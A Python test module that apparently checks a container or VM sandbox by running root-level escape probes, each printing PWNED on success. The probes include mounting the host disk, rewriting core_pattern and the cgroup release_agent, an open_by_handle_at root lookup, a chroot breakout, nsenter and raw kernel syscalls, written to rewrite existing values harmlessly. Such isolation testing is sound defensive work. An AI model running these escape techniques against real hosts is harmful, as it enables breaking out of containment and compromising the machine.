"""What a hostile image may try as root on an instance: shell scripts that print PWNED when the machine gives way.

Where an attack writes, it writes what stood there, so that a machine that gives way comes to no harm.
"""

import os

# open_by_handle_at of the root directory (inode 2 of ext4), by way of a file that is mounted from the machine
HANDLE = """
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0)
for point in [line.split()[4] for line in open("/proc/self/mountinfo")]:
    try:
        base = os.open(point, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        continue
    found = libc.open_by_handle_at(base, handle, os.O_RDONLY | os.O_DIRECTORY)
    if found >= 0 and os.path.exists("/proc/self/fd/%d/SECRET" % found):
        print("PWNED")
"""
CHROOT = """
import os
os.makedirs("/tmp/cage", exist_ok=True)
out = os.open("/", os.O_RDONLY)
os.chroot("/tmp/cage")
os.fchdir(out)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
if os.path.exists("/SECRET"):
    print("PWNED")
"""
# system call, and what the kernel says of garbage to somebody who may: ENOEXEC, EINVAL, EBADF …; EPERM or ENOSYS to others
SYSCALL = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(CALL)
if ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
    print("PWNED", ctypes.get_errno())
"""


def _python(program: str) -> str:
    return f"python3 - <<'EOP'\n{program}\nEOP"


def _rewrite(path: str) -> str:
    return f'v=$(cat {path} | sed "s/.*\\[\\(.*\\)\\].*/\\1/") && printf "%s\\n" "$v" > {path} && echo PWNED'


def attacks(secret: str, disk: tuple[int, int], bridge: str, process: str) -> dict[str, str]:
    """``secret``: a file of the machine's; ``disk``: the device it lies on; ``process``: a word of a program that runs there."""
    node = f"rm -f /dev/disk1; mknod /dev/disk1 b {disk[0]} {disk[1]}"
    secret = secret.lstrip("/")
    devices = " ".join(f"/dev/{name}" for name in ("vda", "sda", "nvme0n1", "xvda", "mem", "kmem", "port", "loop0", "kvm", "fuse"))
    return {
        "read the machine's disk": f"{node} && dd if=/dev/disk1 of=/dev/null bs=4096 count=1 && echo PWNED",
        "mount the machine's disk": f"{node}; mkdir -p /mnt/d; mount -o ro /dev/disk1 /mnt/d && echo PWNED; umount /mnt/d",
        "find a device of the machine's": f"for d in {devices}; do test -e $d && echo PWNED $d; done",
        "attach a loop device": "truncate -s 1M /tmp/loop; rm -f /dev/loop7; mknod /dev/loop7 b 7 7; losetup /dev/loop7 /tmp/loop && echo PWNED; losetup -d /dev/loop7",
        "write the handler of core dumps": _rewrite("/proc/sys/kernel/core_pattern"),
        "write it by a /proc of its own": "mkdir -p /mnt/p; mount -t proc proc /mnt/p; " + _rewrite("/mnt/p/sys/kernel/core_pattern") + "; umount /mnt/p",
        "write it when /proc/sys is remounted": "mount -o remount,rw,bind /proc/sys; " + _rewrite("/proc/sys/kernel/core_pattern"),
        "change the machine's memory settings": "mount -o remount,rw,bind /proc/sys; " + _rewrite("/proc/sys/vm/swappiness"),
        "press a magic key": "mount -o remount,rw,bind /proc/sysrq-trigger; echo h > /proc/sysrq-trigger && echo PWNED",
        "write to /sys": _rewrite("/sys/kernel/mm/transparent_hugepage/enabled"),
        "write to a /sys of its own": "mkdir -p /mnt/s; mount -t sysfs sysfs /mnt/s; " + _rewrite("/mnt/s/kernel/mm/transparent_hugepage/enabled") + "; umount /mnt/s",
        "become the release agent of control groups": "mkdir -p /mnt/g; for c in devices memory cpu rdma misc; do mount -t cgroup -o $c cgroup /mnt/g && { test -e /mnt/g/release_agent && v=$(cat /mnt/g/release_agent) && echo \"$v\" > /mnt/g/release_agent && echo PWNED; umount /mnt/g; }; done",
        "mount debugfs": "mkdir -p /mnt/b; mount -t debugfs debugfs /mnt/b && echo PWNED; umount /mnt/b",
        "load a module": _python(SYSCALL.replace("CALL", "175, b'x', 1, b''")),
        "load another kernel": _python(SYSCALL.replace("CALL", "246, 0, -1, 0, -1")),
        "load a program into the kernel": _python(SYSCALL.replace("CALL", "321, 5, 0, 0")),
        "set the machine's clock": 'date -s "@$(date +%s)" && echo PWNED',
        "read the kernel's log": "dmesg | grep -q . && echo PWNED",
        "open I/O ports": _python(SYSCALL.replace("CALL", "172, 3")),
        "see the machine's processes": f"grep -l '[{process[0]}]{process[1:]}' /proc/[0-9]*/cmdline && echo PWNED",
        "enter the machine's network": f"for n in /proc/[0-9]*/ns/net; do nsenter --net=$n ip link show {bridge} && echo PWNED; done",
        "leave by a chroot": _python(CHROOT.replace("SECRET", secret)),
        "open the machine's root by its handle": _python(HANDLE.replace("SECRET", secret)),
        "write a file that is mounted from the machine": 'for f in $(grep -E " (ext|xfs|btrfs|overlay)[^ ]* " /proc/self/mountinfo | cut -d" " -f5); do test -f $f || continue; mount -o remount,rw,bind $f; cat $f > /tmp/r; cat /tmp/r > $f && echo PWNED; done',
        "reach the machine by its first process": "test -r /proc/1/root/" + secret + " && echo PWNED",
    }


def disk_of(path: str) -> tuple[int, int]:
    device = os.stat(path).st_dev
    return os.major(device), os.minor(device)
